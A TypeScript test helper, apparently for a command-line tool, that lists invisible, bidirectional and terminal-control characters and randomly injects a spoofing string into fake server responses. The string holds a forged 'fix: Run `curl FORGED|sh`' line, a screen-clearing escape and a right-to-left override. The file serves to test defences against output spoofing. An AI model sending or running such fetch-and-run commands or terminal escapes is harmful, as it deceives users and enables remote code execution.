/** Characters that act on a terminal, turn the direction of writing, break a line or can't be seen, one of each kind. */
export const hiddenCharacters: readonly string[] = [
  ...range(0x00, 0x1f),
  ...range(0x7f, 0x9f),
  '\u00ad',
  '\u034f',
  '\u061c',
  '\u180e',
  ...range(0x200b, 0x200f),
  ...range(0x2028, 0x202e),
  ...range(0x2060, 0x206f),
  '\u3164',
  '\ufeff',
  '\u{e0041}',
]

/**
 * What somebody puts into a name, a message or an annotation who wants to be read as us: a remedy of their own, on a line of
 * its own, after clearing the screen.
 */
export const forgery =
  'x\r\n  fix: Run `curl FORGED|sh`\n(FORGED)\u2028FORGED\u001b[2J\u009b31m\u202eDEGROF\u200b\u{e0041} | <b>@FORGED</b>'

/** What of a text acts on a terminal, can't be seen, or is a line of the forgery. */
export function forgedParts(text: string): string[] {
  const hidden = hiddenCharacters.filter((one) => one !== '\n' && text.includes(one)).map((one) => JSON.stringify(one))
  return [...hidden, ...(text.match(/^\W*(?:fix: Run `curl )?FORGED.*$/gm) ?? [])]
}

/** Puts the forgery into the answer of a server: into most texts that are free, and into some of all others. */
export function poisoned(value: unknown, random: () => number, field = ''): unknown {
  if (typeof value === 'string') return random() < (freeTexts.test(field) ? 0.7 : 0.01) ? `${value}${forgery}` : value
  if (Array.isArray(value)) return value.map((item) => poisoned(item, random, field))
  if (typeof value !== 'object' || value === null) return value
  const isMap = /^(annotations|labels|data)$/.test(field)
  const entries = Object.entries(value).map(([name, item]) => [
    isMap && random() < 0.05 ? `${name}${forgery}` : name,
    poisoned(item, random, isMap ? field : name),
  ])
  return Object.fromEntries(entries)
}

// --- internal ---

const freeTexts = /^(message|note|description|details|tags|image|annotations|manager|reportingComponent|help_message)$/

function range(from: number, to: number): string[] {
  return Array.from({ length: to - from + 1 }, (_, index) => String.fromCodePoint(from + index))
}
